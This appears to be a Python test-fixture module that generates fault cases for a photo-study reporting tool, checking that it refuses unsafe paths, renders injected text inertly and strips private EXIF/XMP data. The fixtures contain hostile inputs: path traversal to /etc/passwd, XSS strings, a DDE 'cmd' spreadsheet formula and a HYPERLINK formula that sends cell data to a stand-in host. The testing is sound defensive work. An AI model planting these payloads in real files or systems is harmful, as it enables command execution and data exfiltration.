"""Paths, file names, hostile text and private facts."""

import os
import unicodedata

from faults.makers.material import MAKERS, fault
from faults.makers.sheets import two_rows
from PIL import Image


def _path(fid, name, says, title, outcome="sheet-refused"):
    @fault(fid, outcome, says)
    def mk(s):
        s.sheet(("photos/good.jpg", name))
        (s.d.parent / (s.d.name + "-outside.jpg")).write_bytes(s.jpeg)

    MAKERS[fid]["title"] = title


_path(
    "PTH-01",
    "../PTH-01-outside.jpg",
    ["outside the study folder"],
    "../ to an existing photo outside the study",
)
_path("PTH-02", "/etc/passwd", ["outside the study folder"], "absolute POSIX path")
_path(
    "PTH-03",
    "C:\\Users\\x\\a.jpg",
    ["outside the study folder"],
    "Windows absolute path (must be refused on every system)",
)
_path(
    "PTH-04",
    "\\\\server\\share\\a.jpg",
    ["outside the study folder"],
    "UNC path: must never open a network connection",
)
_path("PTH-05", "file:///etc/passwd", ["not a file name"], "file: URL")
_path(
    "PTH-06",
    "https://example.invalid/a.jpg",
    ["not a file name"],
    "https: URL: must never be fetched",
)
_path("PTH-07", "photos/../../PTH-07-outside.jpg", ["outside the study folder"], ".. in the middle")
_path("PTH-08", "..\\PTH-08-outside.jpg", ["outside the study folder"], "back-slash ..")
_path("PTH-09", "photos/CON.jpg", ["reserved name"], "Windows device name")
_path("PTH-10", "a" * 300 + ".jpg", ["name too long"], "300-character name")
_path("PTH-11", "photos/good.jpg:hidden", ["not a file name"], "NTFS stream syntax")
_path("PTH-12", "~/a.jpg", ["not found"], "tilde must not be expanded", outcome="refused")


@fault("PTH-13", "refused", ["outside the study folder"])
def _(s):
    """symbolic link in photos/ to a file outside"""
    t = s.d.parent / (s.d.name + "-outside.jpg")
    t.write_bytes(s.jpeg)
    (s.d / "photos").mkdir(parents=True, exist_ok=True)
    os.symlink(t.resolve(), s.d / "photos/bad.jpg")
    s.sheet()


@fault("PTH-14", "correct", [])
def _(s):
    """file name decomposed on disk (NFD), composed in the sheet (NFC)"""
    n = "Zo\u00eb_cr\u00e8me.jpg"
    s.put(unicodedata.normalize("NFD", n), s.jpeg)
    s.sheet(("photos/good.jpg", "photos/" + unicodedata.normalize("NFC", n)))


@fault("PTH-15", "refused", ["two files"])
def _(s):
    """both NFC and NFD spellings exist: the tool may not pick one"""
    n = "Zo\u00eb.jpg"
    for f in ("NFC", "NFD"):
        s.put(unicodedata.normalize(f, n), s.jpeg)
    s.sheet(("photos/good.jpg", "photos/" + n))


@fault("PTH-16", "refused", ["upper"])
def _(s):
    """case differs (GOOD.JPG): refuse with the near name; a study means the same everywhere"""
    s.sheet(("photos/good.jpg", "photos/GOOD.JPG"))


@fault("PTH-17", "correct", [])
def _(s):
    """emoji, quotes, percent, hash, right-to-left mark in the name"""
    n = "a 'b\u2019 100% #1 \U0001f487 \u200f.jpg"
    s.put(n, s.jpeg)
    s.sheet(("photos/good.jpg", "photos/" + n))


@fault("RPT-01", "correct", ["no script"])
def _(s):
    """HTML in a photo name: the report shows it as text"""
    n = "<img src=x onerror=alert(1)>.jpg"
    s.put(n, s.jpeg)
    s.sheet(("photos/good.jpg", "photos/" + n))


@fault("RPT-02", "correct", ["no script"])
def _(s):
    """script-closing text and Markdown link in every text column of the sheet"""
    ev = "</script><script>alert(2)</script>[x](javascript:alert(3))$\\frac{"
    rows = two_rows(s)
    for i in range(len(s.head)):
        if i != s.col:
            rows[1][i] = ev
    s.put("good2.jpg", s.jpeg)
    s.put("study.csv", s.csvtext(rows, head=s.head).encode(), sub=".")


@fault("RPT-03", "correct", ["no formula"])
def _(s):
    """spreadsheet formulas in a free-text column: written to CSV/XLSX as text"""
    vals = [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.invalid/?"&A1)',
        "+1+1",
        "@SUM(1)",
        "\t=1",
        "-2+3",
    ]
    s.put("good2.jpg", s.jpeg)
    rows = [two_rows(s)[0] + [vals[0]], two_rows(s)[1] + [" ".join(vals[1:])]]
    s.put("study.csv", s.csvtext(rows, head=[*s.head, "remark"]).encode(), sub=".")


@fault("RPT-04", "correct", ["no script"])
def _(s):
    """script and formula in EXIF camera model"""
    e = Image.Exif()
    e[0x0110] = "<script>alert(1)</script>"
    e[0x010E] = "=cmd()"
    s.put("bad.jpg", s.enc("JPEG", quality=92, exif=e))
    s.sheet()


@fault("PRV-01", "correct", ["no GPS in any output"])
def _(s):
    """EXIF GPS, XMP GPS, owner, serial number, comment: none may reach an output"""
    e = Image.Exif()
    e[0x013B] = "SECRET-OWNER"
    x = e.get_ifd(0x8769)
    x[0xA430] = "SECRET-OWNER"
    x[0xA431] = "SECRET-SERIAL"
    g = e.get_ifd(0x8825)
    g[1] = "N"
    g[2] = (52.0, 22.0, 12.0)
    g[3] = "E"
    g[4] = (4.0, 53.0, 0.0)
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf='
        b'"http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,22.2N"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    s.put("bad.jpg", s.enc("JPEG", quality=92, exif=e, xmp=xmp, comment=b"SECRET-COMMENT"))
    s.sheet()


@fault("PRV-02", "refused", ["consent"])
def _(s):
    """consent column says no"""
    s.put("good2.jpg", s.jpeg)
    rows = [two_rows(s)[0] + ["yes"], two_rows(s)[1] + ["no"]]
    s.put("study.csv", s.csvtext(rows, head=[*s.head, "consent"]).encode(), sub=".")
